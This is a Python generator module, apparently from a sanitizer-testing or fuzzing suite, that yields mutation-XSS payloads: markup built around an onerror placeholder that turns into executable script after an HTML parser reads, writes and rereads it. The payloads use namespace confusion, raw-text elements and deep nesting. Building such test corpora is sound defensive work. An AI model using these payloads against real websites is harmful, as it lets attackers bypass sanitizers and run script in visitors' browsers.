"""Mutation: markup that changes its meaning when it is parsed, written and parsed again."""

from __future__ import annotations

from collections.abc import Iterator

_RUN = "<img src=x onerror=@run@>"
# Elements whose content one parser reads as text and another as markup.
_RAW = "style title textarea noscript noembed noframes xmp iframe plaintext script listing".split()
_FOREIGN = ("svg", "math")
_POINTS = "mi mo mn ms mtext annotation-xml foreignObject desc title".split()


def payloads() -> Iterator[str]:
    for raw in _RAW:
        yield f'<{raw}><p title="</{raw}>{_RUN}"></{raw}>'
        yield f'<svg><{raw}><a id="</{raw}>{_RUN}"></a></{raw}></svg>'
        yield f'<math><mtext><table><mglyph><{raw}><a title="</{raw}>{_RUN}">'
        yield f"<{raw}><!--</{raw}>{_RUN}-->"
    for foreign in _FOREIGN:
        for point in _POINTS:
            yield f'<{foreign}><{point}><style><a title="</style>{_RUN}"></a></style>'
        yield f'<{foreign}></p><style><a id="</style>{_RUN}">'
        yield f'<{foreign}><p><style><a id="</style>{_RUN}">'
        yield f"<{foreign}></br><style><!--</style>{_RUN}--></style>"
        yield f"<{foreign}><![CDATA[<style>]]></style>{_RUN}"
        yield f"<{foreign}><style>&lt;{_RUN[1:]}</style>"
        yield f'<{foreign}><table><style><a title="</style>{_RUN}"></table>'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{_RUN}"
    yield '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@run@&gt;">'
    yield f"<math><mtext><table><mglyph><style><math>{_RUN}</style></math>"
    yield f'<svg><annotation-xml encoding="text/html"><style><a title="</style>{_RUN}"></annotation-xml></svg>'
    yield f'<math><annotation-xml encoding="text/html"><style>{_RUN}</style></annotation-xml></math>'
    yield f'<math><annotation-xml encoding="application/xhtml+xml"><svg><style>{_RUN}</style></svg>'
    yield f'<select><template><style><!--</style><a rel="--></style></template></select>{_RUN}">'
    yield f"<noscript><style></noscript>{_RUN}</style>"
    yield f'<p id="</noscript>{_RUN}"><noscript><p title="</noscript>{_RUN}"></noscript>'
    yield f'<img alt="<x" title="/>{_RUN}">'
    yield '<img alt="`` onerror=@run@" src=x>'
    yield "<listing>&lt;img onerror=@run@ src=x&gt;</listing>"
    yield "<pre>&lt;img onerror=@run@ src=x&gt;</pre>"
    yield "<p style=\"font-family:'\\22\\3bx:expression(@run@)/*'\">words</p>"
    yield '<a title="&lt;/a&gt;&lt;img src=x onerror=@run@&gt;">words</a>'
    yield f"<table><a href=x><tr><td>{_RUN}</a></table>"
    yield f"<table><td><table><caption>{_RUN}</table>"
    yield f"<a href=x><table><a href=y>{_RUN}"
    yield f"<b><p><i></b>{_RUN}</i>"
    yield f"<font><p><font face='</font>{_RUN}'>"
    yield f"<table><select><table>{_RUN}"
    yield f'<select><keygen><svg><style><a title="</style>{_RUN}">'
    yield f"<option><style></option></select><b>{_RUN}</style></option>"
    yield f'<svg><desc><title><a title="</title></desc></svg>{_RUN}">'
    yield f"<svg><title><style><!--</title>{_RUN}<!----></style>"
    yield f"<svg><foreignObject><math><mi><style>{_RUN}</style></mi></math></foreignObject></svg>"
    yield f"<math><mi><svg><mi><style>{_RUN}"
    yield f'<math><mglyph><svg><mtext><style><path id="</style>{_RUN}">'
    yield f'<math><malignmark><style><img src="</style>{_RUN}">'
    yield f"<svg><path d='</svg>{_RUN}'></path>"
    yield f'<dl><dd><math><dt><style><a id="</style>{_RUN}">'
    yield f"<h1><svg><h2><style><!--</style>{_RUN}-->"
    yield f"<ruby><rb><svg><rt><style>{_RUN}</style>"
    yield f'<body><svg><body><style><a id="</style>{_RUN}">'
    yield f'<frameset><frame src="x"></frameset><noframes><p title="</noframes>{_RUN}">'
    yield "<plaintext><script>@run@</script>"
    yield "<xmp><p></xmp><svg><xmp><script>@run@</script></xmp></svg>"
    yield "<image src=x onerror=@run@>"
    yield f"<div{'><div' * 520}>{_RUN}"
    yield f"<{'b><' * 300}b>{_RUN}"
    yield f'<svg>{"<g>" * 512}<style><a id="</style>{_RUN}">'
    yield f"<table>{'<tr><td><table>' * 60}{_RUN}"
    yield f"{'<form><div></form>' * 40}{_RUN}"
    yield f"<math>{'<mtext><math>' * 90}<style>{_RUN}"
